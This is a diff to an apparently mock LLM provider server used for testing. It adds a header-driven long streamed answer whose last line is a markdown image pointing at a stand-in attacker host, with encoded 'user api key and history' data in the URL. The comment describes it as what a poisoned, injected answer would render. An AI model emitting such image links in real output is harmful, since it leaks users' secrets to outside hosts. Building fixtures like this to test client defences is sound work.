@@ -26,7 +26,9 @@
 //
 // Test knobs (request headers): x-standin-encoding: gzip|br compresses the response body
 // (streams through a flushing compressor, so events still arrive one by one);
-// x-standin-tag: <text> is echoed as "tag" in the log line.
+// x-standin-tag: <text> is echoed as "tag" in the log line; x-standin-answer-bytes: N (OpenAI
+// chat only) makes the answer a report of N bytes that ends with a markdown image carrying
+// data to another host, streamed in 4 KiB pieces.
 
 import fs from 'node:fs';
 import http from 'node:http';
@@ -133,6 +135,26 @@ function lastUserText(messages, userRoles = ['user']) {
 
 function answerText(userText) {
   return `Stand-in answer to: ${[...userText].slice(0, 40).join('')}`;
+}
+
+// A long answer (x-standin-answer-bytes) whose last line loads an image from a host that is
+// not the provider's, with data in its URL: what a poisoned answer would render.
+function longAnswer(bytes) {
+  const tail = '\n![chart](https://collect.attacker.test/c.png?d=dXNlciBhcGkga2V5IGFuZCBoaXN0b3J5)';
+  const lines = [];
+  let size = 0;
+  for (let i = 0; size + tail.length < bytes; i++) {
+    const line = `Row ${i}: the build server returned ${i % 97} files, all within their quota.\n`;
+    lines.push(line);
+    size += line.length;
+  }
+  return (lines.join('') + tail).slice(-bytes);
+}
+
+function slices(text, size) {
+  const out = [];
+  for (let i = 0; i < text.length; i += size) out.push(text.slice(i, i + size));
+  return out;
 }
 
 function weatherArgs(userText) {
@@ -266,7 +288,8 @@ async function openaiChat(req, res, body, raw) {
   const messages = body.messages || [];
   const userText = lastUserText(messages);
   const tc = pickToolCall(openaiToolNames(body.tools), userText);
-  const text = tc ? '' : answerText(userText);
+  const longBytes = parseInt(req.headers['x-standin-answer-bytes'] || '0', 10) || 0;
+  const text = tc ? '' : (longBytes > 0 ? longAnswer(longBytes) : answerText(userText));
   const id = `chatcmpl-${hashHex(raw, 29)}`;
   const callId = `call_${hashHex('call' + raw, 24)}`;
   const finish = tc ? 'tool_calls' : 'stop';
@@ -328,7 +351,9 @@ async function openaiChat(req, res, body, raw) {
     }
   } else {
     out.push(chunk({role: 'assistant', content: '', refusal: null}));
-    for (const p of pieces(text)) out.push(chunk({content: p}));
+    for (const p of (longBytes > 0 ? slices(text, 4096) : pieces(text))) {
+      out.push(chunk({content: p}));
+    }
   }
   out.push(chunk({}, finish));
   if (includeUsage) {
